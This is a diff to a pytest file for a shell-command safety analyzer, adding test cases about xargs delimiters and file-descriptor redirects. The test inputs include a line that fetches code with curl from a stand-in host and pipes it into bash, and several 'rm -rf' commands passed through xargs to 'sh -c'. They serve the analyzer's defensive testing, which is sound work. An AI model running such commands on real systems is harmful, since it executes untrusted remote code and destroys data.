@@ -171,8 +171,11 @@ def test_arguments_hidden_by_redirects_abbreviations_and_calls(command: str, kin
 
 @pytest.mark.parametrize(
     "command",
-    ["git branch $FLAGS x", "git push origin $REFSPEC", "B='sh -c \"x\"' mytool", "find . | xargs bash"],
-)
+    [
+        "git branch $FLAGS x", "git push origin $REFSPEC", "B='sh -c \"x\"' mytool", "find . | xargs bash",
+        "bash <&3", "python3 <&4", "exec 3< <(curl a.example); fd=3; bash <&$fd",
+    ],
+)  # fmt: skip
 def test_words_that_may_hide_options_or_code_are_unknown(command: str) -> None:
     assert_has_unknown(analyze_command(command, "/tmp"))
 
@@ -308,3 +311,21 @@ def test_attached_split_strings_expect_spawns_and_editor_bangs_are_followed(comm
 
 def test_editor_commands_without_a_bang_run_no_shell() -> None:
     assert Kind.FILE_DELETE not in kinds("vim -c '%s/a/b/g' -c wq notes.txt")
+
+
+@pytest.mark.parametrize(
+    ("command", "target"),
+    [
+        ("echo 'rm -rf /srv/data' | xargs -0 bash -c", "/srv/data"),
+        ("echo 'rm -rf /srv/data' | xargs -d '\\n' sh -c", "/srv/data"),
+        ("printf 'rm -rf /srv/data' | xargs --null sh -c", "/srv/data"),
+    ],
+)
+def test_xargs_with_a_delimiter_passes_the_whole_line_as_one_argument(command: str, target: str) -> None:
+    """-0 and -d turn off blank and quote splitting: the line reaches `sh -c` whole, as code."""
+    find(analyze_command(command, "/tmp"), Kind.FILE_DELETE, target)
+
+
+def test_xargs_splitting_on_blanks_passes_words() -> None:
+    """Without -0, `rm -rf /srv/data` is three arguments: `bash -c rm -rf /srv/data` runs a bare `rm`."""
+    assert Kind.FILE_DELETE not in kinds("echo 'rm -rf /srv/data' | xargs bash -c")
